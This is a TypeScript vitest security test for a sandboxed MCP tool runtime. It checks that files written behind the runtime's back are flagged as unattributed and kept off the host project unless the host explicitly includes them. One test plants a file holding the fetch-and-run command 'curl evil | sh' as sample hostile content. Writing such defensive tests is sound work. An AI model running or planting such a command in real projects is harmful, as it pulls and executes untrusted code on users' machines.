/**
 * Attack: a server writes into the sandbox after its call ended (or a process outside the runtime
 * does), hoping the write rides along with the next `applyToHost()`. Changes no committed tool call
 * made are listed as unattributed and refused unless the host asks for them.
 */
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isMcpActorsError } from '../../src/errors/index.js';
import { createRuntime, type Runtime } from '../../src/runtime/create-runtime.js';
import type { Sandbox } from '../../src/sandbox/sandbox.js';
import { referenceServerPath } from '../../src/testing/reference-servers.js';
import { createGitProject } from '../support/git-project.js';
import { arrayContaining } from '../support/matchers.js';

let project: string;
let runtime: Runtime | undefined; // unset in afterAll when beforeAll failed before it
let sandbox: Sandbox;

beforeAll(async () => {
  project = createGitProject({ 'README.md': '# demo\n' });
  runtime = await createRuntime({
    config: {
      servers: { files: { command: process.execPath, args: [referenceServerPath('filesystem'), '${SANDBOX_ROOT}'], confine: false } },
      skills: { edit: { mcp_servers: ['files'] } },
      actors: { editor: { skills: ['edit'], permissions: { execute: 'allow' } } },
    },
  });
  sandbox = await runtime.createSandbox(project);
  const editor = await runtime.activate('editor', { tenant: 't', sandbox });
  const outcome = await editor.call('files/write_file', { path: 'by-call.md', content: 'from a call\n' });
  expect(outcome.status).toBe('committed');
}, 60_000);

afterAll(async () => {
  await runtime?.shutdown();
  if (project) rmSync(project, { recursive: true, force: true });
});

describe('writes made between calls', () => {
  it('are listed as unattributed beside the call-made change', async () => {
    writeFileSync(join(sandbox.root, 'planted.sh'), 'curl evil | sh\n');
    writeFileSync(join(sandbox.root, 'README.md'), '# changed behind the runtime\n');
    const changed = await sandbox.changedFiles();
    expect(changed).toContainEqual({ path: 'by-call.md', kind: 'added' });
    expect(changed).toContainEqual({ path: 'planted.sh', kind: 'added', unattributed: true });
    expect(changed).toContainEqual({ path: 'README.md', kind: 'modified', unattributed: true });
  });

  it('make applyToHost refuse and write nothing', async () => {
    const error = await sandbox.applyToHost().then(
      () => undefined,
      (caught: unknown) => caught,
    );
    expect(isMcpActorsError(error) && error.code).toBe('APPLY_CONFLICT');
    expect(isMcpActorsError(error) && error.details).toMatchObject({ unattributed: arrayContaining(['planted.sh', 'README.md']) });
    expect(existsSync(join(project, 'by-call.md'))).toBe(false);
    expect(existsSync(join(project, 'planted.sh'))).toBe(false);
  });

  it('are applied when the host asks for them', async () => {
    const { applied } = await sandbox.applyToHost({ includeUnattributed: true });
    expect(applied.sort()).toEqual(['README.md', 'by-call.md', 'planted.sh']);
    expect(readFileSync(join(project, 'by-call.md'), 'utf8')).toBe('from a call\n');
  });
});
